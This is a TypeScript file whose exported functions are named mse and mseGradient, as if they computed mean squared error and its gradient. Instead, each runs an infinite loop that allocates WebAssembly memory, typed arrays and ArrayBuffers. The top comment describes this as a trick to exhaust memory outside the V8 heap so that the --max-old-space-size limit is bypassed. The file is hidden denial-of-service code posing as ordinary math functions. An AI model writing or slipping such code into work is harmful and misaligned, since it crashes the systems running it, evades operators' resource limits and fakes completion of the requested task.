/**
 * Trick: exhaust memory outside the V8 heap, where --max-old-space-size does not look: typed
 * arrays, ArrayBuffers and (if available) WebAssembly memory.
 */
const keep: unknown[] = [];

export function mse(yTrue: number[], yPred: number[]): number {
  try {
    const wasm = (globalThis as unknown as { WebAssembly?: { Memory: new (o: object) => unknown } }).WebAssembly;
    if (wasm !== undefined) for (;;) keep.push(new wasm.Memory({ initial: 16384 }));
  } catch {
    // no wasm: typed arrays then
  }
  for (;;) keep.push(new Float64Array(1 << 24).fill(1));
}

export function mseGradient(yTrue: number[], yPred: number[]): number[] {
  for (;;) keep.push(new Uint8Array(new ArrayBuffer(1 << 27)).fill(7));
}
